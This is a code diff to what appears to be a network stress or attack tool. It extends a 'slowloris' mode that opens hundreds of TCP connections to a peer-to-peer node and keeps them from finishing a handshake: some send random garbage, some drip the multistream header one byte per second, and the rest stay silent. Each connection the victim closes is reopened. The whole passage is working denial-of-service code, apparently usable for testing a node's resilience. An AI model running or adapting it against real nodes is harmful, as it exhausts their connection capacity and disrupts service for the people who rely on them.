@@ -178,52 +178,63 @@ async function holdUntil (deadlineMs, pred = () => false) {
 
 // ---- modes --------------------------------------------------------------------------
 const MODES = {
-  // TCP connections that never finish a handshake: some send nothing, some garbage,
-  // some the multistream header one byte a second. Held for --duration-ms.
+  // TCP connections that never finish a handshake: some send garbage, some the multistream
+  // header one byte a second, the rest nothing. Each one the victim closes is replaced by
+  // a silent one (at most --max-opened in all), so the attacker holds --connections for
+  // --duration-ms.
   async slowloris () {
-    const count = num('connections', 300)
+    const count = num('connections', 400)
     const garbage = num('garbage', 100)
-    const slow = num('slow', 100)
+    const slow = num('slow', 150)
+    const maxOpened = num('max-opened', 5000)
     const { host, port } = target.toOptions()
     Object.assign(stats, { opened: 0, failed: 0, closed_by_victim: 0 })
     const closeTimes = []
-    const conns = []
-    const header = Buffer.from('\x13/multistream/1.0.0\n')
-    for (let i = 0; i < count; i++) {
+    const live = new Set()
+    const slowOnes = new Set()
+    let attempts = 0
+    const open = kind => {
+      if (attempts >= maxOpened || finished || elapsed() >= durationMs) return
+      attempts++
       const s = net.connect({ host, port })
       let connected = false
-      conns.push(s)
+      live.add(s)
+      if (kind === 'slow') slowOnes.add(s)
       s.on('connect', () => {
         connected = true
         stats.opened++
-        if (i < garbage) s.write(randomBytes(4096))
+        if (kind === 'garbage') s.write(randomBytes(4096))
       })
       s.on('error', () => {})
+      s.on('data', () => {}) // read and drop what the victim says
       s.on('close', () => {
+        live.delete(s)
+        slowOnes.delete(s)
         if (finished) return
         if (!connected) stats.failed++
         else { stats.closed_by_victim++; closeTimes.push(elapsed()) }
+        open('silent')
       })
-      s.on('data', () => {}) // read and drop what the victim says
     }
+    for (let i = 0; i < count; i++) open(i < garbage ? 'garbage' : i < garbage + slow ? 'slow' : 'silent')
     await emit({ event: 'ready' })
+    const header = Buffer.from('\x13/multistream/1.0.0\n')
     let k = 0
     const drip = setInterval(() => {
-      for (let i = garbage; i < garbage + slow && i < count; i++) {
-        const s = conns[i]
-        if (!s.destroyed && !s.connecting) s.write(header.subarray(k % header.length, k % header.length + 1))
-      }
+      for (const s of slowOnes) if (!s.connecting) s.write(header.subarray(k % header.length, k % header.length + 1))
       k++
     }, 1000)
     await holdUntil(durationMs)
     clearInterval(drip)
     closeTimes.sort((a, b) => a - b)
-    stats.still_open = conns.filter(s => !s.destroyed).length
+    stats.still_open = live.size
     if (closeTimes.length) {
       stats.first_close_ms = closeTimes[0]
       stats.median_close_ms = closeTimes[Math.floor(closeTimes.length / 2)]
     }
-    for (const s of conns) s.destroy()
+    finished = true
+    for (const s of live) s.destroy()
+    finished = false
   },
 
   // Many /meshsub streams, each holding --bytes of an RPC announced as --rpc-size.
